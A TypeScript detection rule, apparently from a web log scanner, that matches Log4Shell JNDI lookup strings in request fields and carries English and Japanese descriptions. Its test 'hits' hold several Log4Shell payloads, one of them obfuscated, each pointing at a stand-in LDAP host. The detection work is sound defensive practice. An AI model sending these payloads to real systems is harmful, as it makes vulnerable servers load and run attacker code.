import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'jndi/lookup',
  title: 'JNDI lookup of Log4Shell',
  why: 'Makes a Java logger load code from a server of the attacker.',
  ja: {
    title: 'Log4Shell の JNDI 参照',
    why: 'Java のロガーに攻撃者のサーバーからコードを読み込ませます。',
  },
  severity: 'critical',
  stage: 'inject',
  attack: ['T1190'],
  cwe: [502, 917],
  cve: ['CVE-2021-44228'],
  refs: ['https://logging.apache.org/security.html'],

  where: ['query', 'path', 'referrer', 'agent', 'user', 'request'],
  needs: ['jndi', ['{']],
  match: /\$\{\s{0,9}jndi\s{0,9}:/i,

  hits: [
    'GET /?x=${jndi:ldap://203.0.113.9/a}',
    { request: 'GET / HTTP/1.1', agent: '${${lower:j}ndi:ldap://203.0.113.9/a}' },
    'GET /${jndi:ldap:/203.0.113.9/a} HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer: 'https://www.example.com/?x=${jndi:ldap://203.0.113.9/a}',
    },
    { request: 'GET / HTTP/1.1', user: '${jndi:ldap:/203.0.113.9/a}' },
  ],
  misses: [
    'GET /docs/jndi-tutorial',
    'GET /search?q=jndi+lookup',
    { message: 'upstream timed out, request: "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1"' },
    'GET /docs?q={jndi:} HTTP/1.1',
    'GET /docs?q=${jndi.host} HTTP/1.1',
  ],
})
